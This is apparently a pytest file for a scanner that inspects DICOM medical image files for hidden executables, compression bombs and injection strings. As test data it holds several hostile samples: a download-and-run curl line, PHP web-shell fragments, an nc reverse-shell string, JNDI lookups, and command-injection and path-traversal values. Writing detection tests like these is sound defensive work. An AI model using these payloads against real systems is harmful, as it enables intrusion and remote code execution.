"""Hostile captures: each is examined, told for what it is, and stops nothing."""

from __future__ import annotations

import gzip
import json
from typing import Any

import pytest

from dicomhawk.hospital.elements import EXPLICIT_LE, Element, encode
from tests.analyst.payload import samples
from tests.analyst.payload.conftest import Examine, severities
from tests.analyst.payload.samples import attributes, ct, part10, text
from tests.analyst.payload.yara_samples import EICAR


def finding(report: dict[str, Any], id: str) -> dict[str, Any]:
    """The first finding with that id."""
    return next(each for each in report["findings"] if each["id"] == id)


def test_a_clean_image_has_nothing_above_info(examine: Examine) -> None:
    report = examine(ct())
    assert report["severity"] == 0 and report["findings"] == []
    assert report["type"] == "DICOM"
    assert report["verdict"] == "A DICOM object (CT, 64 x 64); nothing in it stands out."
    assert report["dicom"]["patient_name"] == "Doe^Jane" and report["dicom"]["visitors_from"] > 128
    assert report["sandbox"]["outcome"] == "done" and report["sandbox"]["layers"]["limits"] == 1
    assert [each["name"] for each in report["sections"]] == ["all", "preamble", "header", "pixel data"]
    assert len(report["md5"]) == 32 and len(report["sha1"]) == 40 and report["fuzzy"].count(":") == 2
    json.dumps(report)


@pytest.mark.parametrize(
    ("id", "kind", "content"),
    [
        ("polyglot.pe", "PE", samples.pe(128, 0x90)[:128]),
        ("polyglot.elf", "ELF", samples.elf(128)),
        ("polyglot.macho", "Mach-O", samples.macho(128)),
        ("polyglot.script", "script", b"#!/bin/sh\ncurl http://192.0.2.7/x | sh\nexit\n"),
        ("polyglot.php", "PHP", b"<?php system($_GET['c']); __halt_compiler();"),
        ("polyglot.pdf", "PDF", b"%PDF-1.7\n1 0 obj\n"),
        ("polyglot.html", "HTML", b"<html><script>alert(1)</script><!--"),
    ],
)
def test_what_hides_in_the_preamble_is_found(examine: Examine, id: str, kind: str, content: bytes) -> None:
    file = bytearray(ct(preamble=content))
    if id == "polyglot.pe":  # its header lies in group 0002, as in the proof of concept
        file[0x3C:0x40] = len(file).to_bytes(4, "little")
        file += b"PE\0\0\x64\x86\1\0" + bytes(40)
    report = examine(bytes(file))
    found = finding(report, id)
    assert found["severity"] >= 3 and found["offset"] == 0 and found["name"] == f"{kind} in the preamble"
    assert report["type"].startswith(f"DICOM + {kind}")


@pytest.mark.parametrize(
    ("id", "content"),
    [
        ("polyglot.pe", samples.pe()),
        ("polyglot.elf", samples.elf()),
        ("polyglot.macho", samples.macho()),
        ("polyglot.macho", samples.fat_macho()),
        ("polyglot.java", samples.java_class()),
        ("polyglot.pdf", b"%PDF-1.4\n" + bytes(100)),
        ("polyglot.zip", samples.zipped(x=b"y" * 100)),
        ("polyglot.php", b"<?php eval($_POST[1]); ?>" + bytes(9)),
    ],
)
@pytest.mark.parametrize("place", ["trailing", "private", "pixels", "document"])
def test_what_hides_elsewhere_is_found_with_its_place(examine: Examine, id: str, content: bytes, place: str) -> None:
    content += bytes(len(content) % 2)
    match place:
        case "trailing":
            file, where = ct() + content, "what follows the data set"
        case "private":
            private = text(0x00290010, "LO", "MAKER "), Element(0x00291010, "OB", content)
            file, where = ct(*private), "private element (0029,1010)"
        case "pixels":
            head = attributes()
            value = samples.pixels().value
            assert isinstance(value, bytes)
            head[0x7FE00010] = Element(0x7FE00010, "OW", value[:3000] + content + value[3000 + len(content) :])
            file, where = part10(encode(head, EXPLICIT_LE)), "the pixel data"
        case _:
            head = attributes(Element(0x00420011, "OB", content), text(0x00420012, "LO", "application/x"))
            file, where = part10(encode(head, EXPLICIT_LE)), "the encapsulated document"
    found = finding(examine(file), id)
    assert found["name"].endswith(where)
    assert found["severity"] >= 2
    assert file[found["offset"] :].startswith(content[:4])


def test_a_fat_mach_o_is_no_java_class(examine: Examine) -> None:
    assert examine(samples.fat_macho())["type"] == "Mach-O"
    assert examine(samples.java_class())["type"] == "Java class"


def test_a_tiff_in_the_preamble_is_no_attack(examine: Examine) -> None:
    report = examine(ct(preamble=b"II*\0\x08\0\0\0"))
    assert severities(report) == {"polyglot.tiff": 0} and report["type"] == "DICOM"


def test_pixels_that_look_like_a_program_are_no_program(examine: Examine) -> None:
    head = attributes()
    head[0x7FE00010] = Element(0x7FE00010, "OW", (b"MZ\x7fELFPK\3\4%PDF-" * 600)[:8192])
    assert examine(part10(encode(head, EXPLICIT_LE)))["type"] == "DICOM"


def test_an_encapsulated_pdf_is_no_polyglot(examine: Examine) -> None:
    document = Element(0x00420011, "OB", b"%PDF-1.4\n%%EOF\n "), text(0x00420012, "LO", "application/pdf ")
    report = examine(part10(encode(attributes(*document), EXPLICIT_LE)))
    assert report["severity"] == 0 and report["type"] == "DICOM"


def test_a_document_that_is_something_else_is_told(examine: Examine) -> None:
    document = Element(0x00420011, "OB", samples.elf()), text(0x00420012, "LO", "application/pdf ")
    found = severities(examine(part10(encode(attributes(*document), EXPLICIT_LE))))
    assert found["type.mismatch"] == 2 and found["polyglot.elf"] == 4


@pytest.mark.parametrize(
    ("id", "make"),
    [
        ("bomb.zip", samples.zip_bomb),
        ("bomb.zip", samples.overlapping_zip),
        ("bomb.gzip", samples.gzip_bomb),
        ("bomb.deflate", samples.deflate_bomb),
    ],
)
def test_bombs_are_told_and_do_not_go_off(examine: Examine, id: str, make: Any) -> None:
    report = examine(make())
    assert severities(report)[id] == 3
    assert report["sandbox"]["outcome"] == "done"


@pytest.mark.timeout(60)
def test_what_is_behind_a_gzip_stream_does_not_matter(examine: Examine) -> None:
    report = examine(gzip.compress(bytes(range(256)) * (3 << 12), mtime=0) + bytes(30))
    assert report["sandbox"]["outcome"] == "done"
    assert report["containers"][0]["size"] == 3 << 20


def test_archives_are_listed_and_not_unpacked(examine: Examine) -> None:
    report = examine(samples.zipped(**{"../../etc/cron.d/x": b"* * * * * root id\n", "b.dcm": b"b" * 1000}))
    listed = report["containers"][0]
    assert (listed["kind"], listed["count"], listed["size"]) == ("ZIP", 2, 1018)
    assert [entry["name"] for entry in listed["entries"]] == ["../../etc/cron.d/x", "b.dcm"]
    assert severities(report)["text.traversal"] == 3


@pytest.mark.parametrize("depth", [100, 5000])
@pytest.mark.parametrize("defined", [True, False])
def test_huge_nesting_is_told(examine: Examine, depth: int, defined: bool) -> None:
    report = examine(samples.nested(depth, defined=defined))
    assert severities(report)["structure.nesting"] == 3
    assert report["sandbox"]["outcome"] == "done" and not report["failed"]


def test_eicar_is_found_wherever_it_is(examine: Examine) -> None:
    assert severities(examine(EICAR))["yara.eicar"] == 3
    assert severities(examine(ct() + EICAR))["yara.eicar"] == 3
    packed = samples.stored_deflate(encode(attributes(text(0x00104000, "LT", EICAR.decode())), EXPLICIT_LE))
    assert severities(examine(part10(packed, samples.DEFLATED)))["yara.eicar"] == 3


@pytest.mark.parametrize(
    ("id", "tag", "vr", "value"),
    [
        ("text.xss", 0x00100010, "PN", "<script>alert(1)</script>"),
        ("text.xss", 0x00081030, "LO", '"><img src=x onerror=alert(1)>'),
        ("text.traversal", 0x00080018, "UI", "../../../../etc/cron.d/x"),
        ("text.traversal", 0x0020000D, "UI", "1.2/../../x"),
        ("text.traversal", 0x00080018, "UI", "C:\\Windows\\x"),
        ("text.traversal", 0x00080018, "UI", "/etc/cron.d/x"),
        ("text.traversal", 0x00041500, "CS", "..\\..\\SECRET"),
        ("text.traversal", 0x00104000, "LT", "a=../../etc/passwd"),
        ("text.jndi", 0x00100010, "PN", "${jndi:ldap://192.0.2.1/a}"),
        ("text.sql", 0x00100020, "LO", "' OR 1=1 --"),
        ("text.command", 0x00081030, "LO", "x; wget http://192.0.2.1/a -O /tmp/a"),
        ("text.command", 0x00104000, "LT", "$(curl 192.0.2.1)"),
        ("text.command", 0x00104000, "LT", "a;id"),
        ("text.command", 0x00104000, "LT", "|nc -e /bin/sh 192.0.2.1 4444"),
        ("text.command", 0x00104000, "LT", "x && cat /etc/passwd"),
        ("text.command", 0x00104000, "LT", "`id`"),
    ],
)
def test_attacks_in_values_are_found(examine: Examine, id: str, tag: int, vr: str, value: str) -> None:
    report = examine(ct(text(tag, vr, value)))
    found = finding(report, id)
    assert found["severity"] >= 3
    assert report["severity"] >= 3


@pytest.mark.parametrize(
    "value",
    [
        "Thorax p.a. & lateral; id 5",
        "CT Abdomen/Becken (nativ) + KM",
        "O'Brien^Mary",
        "a or b; see 'Befund'",
        "Smith^John^^^Jr.",
        "50% <5 mm",
        "CSA MPR\\\\CSAPARALLEL\\M\\ND\\NORM",
        "R&D; cat scan; sleep study 2",
        "NC Abdomen | NC Thorax",
        "Thorax...\\Abdomen.../Becken",
        "D:\\Images\\Raw",
        "\\\\scanner\\raw\\x",
        "id",
        "Ping Li; ID 77; PWD",
    ],
)
def test_ordinary_texts_are_no_attacks(examine: Examine, value: str) -> None:
    report = examine(ct(text(0x00104000, "LT", value), text(0x00081030, "LO", value[:64])))
    assert report["severity"] == 0, report["findings"]


def test_a_hundred_malformed_files_are_examined(examine: Examine) -> None:
    outcomes = set()
    judged = 0
    for content in samples.fuzzed(100):
        report = examine(content)
        outcomes.add(report["sandbox"]["outcome"])
        assert not report["failed"], report["failed"]
        judged += report["severity"] > 0
    assert outcomes == {"done"}
    assert judged > 80
    assert examine(ct())["severity"] == 0


@pytest.mark.parametrize(
    "content", [b"", b"\0", b"DICM", bytes(128) + b"DICM", bytes(200), b"\x02\0", b"MZ", b"PK\3\4"]
)
def test_the_smallest_files_are_examined(examine: Examine, content: bytes) -> None:
    report = examine(content)
    assert report["sandbox"]["outcome"] == "done" and not report["failed"]


def test_bodies_of_the_web_are_told_for_what_they_are(examine: Examine) -> None:
    assert examine(b"username=a&password=b")["type"] == "form"
    assert examine(b'{"Level": "Study"}')["type"] == "JSON"
    assert examine(b"<?xml version='1.0'?><a/>")["type"] == "XML"
    assert severities(examine(b"q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"))["text.jndi"] == 4
    assert severities(examine(b"#!/bin/sh\nid\n"))["type.script"] == 3
    assert severities(examine(samples.pe()))["type.executable"] == 3


def test_what_points_elsewhere_is_listed_and_defanged(examine: Examine) -> None:
    comment = r"see http://evil.example.com/a.sh or \\files.example.com\share\x and mail a@example.org, 192.0.2.44"
    report = examine(ct(text(0x00104000, "LT", comment)))
    found = {(each["kind"], each["value"]): each["defanged"] for each in report["indicators"]}
    assert found["url", "http://evil.example.com/a.sh"] == "hxxp[:]//evil[.]example[.]com/a[.]sh"
    assert found["ipv4", "192.0.2.44"] == "192[.]0[.]2[.]44"
    assert found["email", "a@example.org"] == "a[@]example[.]org"
    assert any(kind == "unc" for kind, _ in found)


def test_no_text_of_a_report_has_control_characters(examine: Examine) -> None:
    report = examine(
        ct(
            text(
                0x00100010,
                "PN",
                "a\x1b[31m<script>\x00\x9b\u202e"[:20].encode("latin-1", "replace").decode("latin-1"),
            )
        )
    )
    flat = json.dumps(report, ensure_ascii=False)
    assert all(each.isprintable() for each in flat)
